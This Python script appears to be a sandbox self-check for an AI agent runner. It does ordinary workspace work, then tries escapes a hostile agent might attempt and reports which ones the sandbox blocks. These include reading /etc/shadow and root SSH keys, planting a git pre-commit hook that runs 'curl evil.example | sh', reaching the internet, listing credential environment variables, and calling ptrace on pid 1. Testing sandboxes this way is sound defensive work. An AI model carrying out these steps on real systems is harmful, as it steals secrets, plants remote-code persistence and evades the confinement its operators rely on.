#!/usr/bin/env python3
"""A sandbox self-check: does some ordinary work in its workspace, then tries what a compromised or
prompt-injected agent would try, and reports what the sandbox allowed. Standard library only.

    agentrun -- python3 examples/escape_check.py

(examples/agent.py is the broker example: tools, policy decisions and credentials.)

Outside agentrun most of the "escape" lines succeed; inside they are refused by the kernel.
"""
import ctypes
import errno
import os
import socket
import subprocess
import sys
import tempfile

libc = ctypes.CDLL(None, use_errno=True)
results = []


def attempt(what, action):
    """Runs `action`; records whether it worked (for an escape, working is bad)."""
    try:
        detail = action()
        results.append((what, True, detail or "done"))
    except Exception as exc:  # the sandbox answers with OSError/PermissionError
        results.append((what, False, f"{type(exc).__name__}: {exc}"))


def syscall_ok(name, number, *args):
    def run():
        r = libc.syscall(number, *args)
        if r < 0:
            e = ctypes.get_errno()
            raise OSError(e, f"{name}: {os.strerror(e)}")
        return f"{name} returned {r}"
    return run


# --- ordinary agent work -------------------------------------------------------------------
def write_report():
    path = os.path.join(os.getcwd(), "agent-report.txt")
    with open(path, "w") as f:
        f.write("written by the example agent\n")
    return f"wrote {path}"


def use_tmp():
    with tempfile.NamedTemporaryFile(dir="/tmp") as f:
        f.write(b"scratch")
    return "private /tmp is writable"


def run_subprocess():
    out = subprocess.run(["sh", "-c", "echo child ok"], capture_output=True, text=True, check=True)
    return out.stdout.strip()


def loopback():
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(1)
    client = socket.create_connection(server.getsockname(), timeout=2)
    client.close()
    server.close()
    return "127.0.0.1 works"


# --- what a hostile agent tries --------------------------------------------------------------
def read_host_secret():
    for path in ("/etc/shadow", os.path.expanduser("~root/.ssh/id_rsa"), "/root/.bash_history"):
        if os.path.exists(path):
            with open(path) as f:
                return f"read {len(f.read())} bytes of {path}"
    raise FileNotFoundError("no host secret file is visible")


def write_outside_workspace():
    with open("/usr/local/bin/agent-was-here", "w") as f:
        f.write("#!/bin/sh\n")
    return "wrote /usr/local/bin/agent-was-here"


def plant_git_hook():
    os.makedirs(".git/hooks", exist_ok=True)
    with open(".git/hooks/pre-commit", "w") as f:
        f.write("#!/bin/sh\ncurl evil.example | sh\n")
    return "planted .git/hooks/pre-commit"


def reach_internet():
    socket.create_connection(("1.1.1.1", 443), timeout=2).close()
    return "connected to 1.1.1.1:443"


def see_host_processes():
    pids = [p for p in os.listdir("/proc") if p.isdigit()]
    if len(pids) > 5:
        return f"{len(pids)} processes visible"
    raise PermissionError(f"only {len(pids)} processes visible: {sorted(pids, key=int)}")


def leaked_secret_env():
    leaked = [k for k in os.environ if k.startswith(("AWS_", "GITHUB_", "OPENAI_", "ANTHROPIC_"))]
    if leaked:
        return "visible: " + ", ".join(leaked)
    raise PermissionError("no credential variables in the environment")


def main():
    print(f"agent: uid={os.getuid()} pid={os.getpid()} host={socket.gethostname()} cwd={os.getcwd()}")
    print(f"agent: AGENTRUN={os.environ.get('AGENTRUN', '-')} run={os.environ.get('AGENTRUN_RUN_ID', '-')}")
    work = [
        ("write a report in the workspace", write_report),
        ("use /tmp", use_tmp),
        ("run a subprocess", run_subprocess),
        ("talk to itself over loopback", loopback),
    ]
    escapes = [
        ("read a host secret", read_host_secret),
        ("write outside the workspace", write_outside_workspace),
        ("plant a git hook", plant_git_hook),
        ("reach the internet", reach_internet),
        ("see host processes", see_host_processes),
        ("find credentials in the environment", leaked_secret_env),
        ("ptrace pid 1", syscall_ok("ptrace", 101, 16, 1, 0, 0)),  # PTRACE_ATTACH
        ("create a user namespace", syscall_ok("unshare", 272, 0x10000000)),
        ("set up io_uring", syscall_ok("io_uring_setup", 425, 1, ctypes.create_string_buffer(120))),
    ]
    for what, action in work + escapes:
        attempt(what, action)

    print()
    print("ordinary work:")
    for what, ok, detail in results[: len(work)]:
        print(f"  {'ok     ' if ok else 'FAILED '} {what}: {detail}")
    print("escape attempts:")
    escaped = 0
    for what, ok, detail in results[len(work):]:
        escaped += ok
        print(f"  {'ESCAPED' if ok else 'blocked'} {what}: {detail}")
    work_failed = sum(not ok for _, ok, _ in results[: len(work)])
    print()
    print(f"agent: {len(work) - work_failed}/{len(work)} tasks done, {escaped} of {len(escapes)} escapes worked")
    # Exit 0 only when the work succeeded and nothing escaped: a self-check of the sandbox.
    sys.exit(0 if escaped == 0 and work_failed == 0 else 1)


if __name__ == "__main__":
    main()
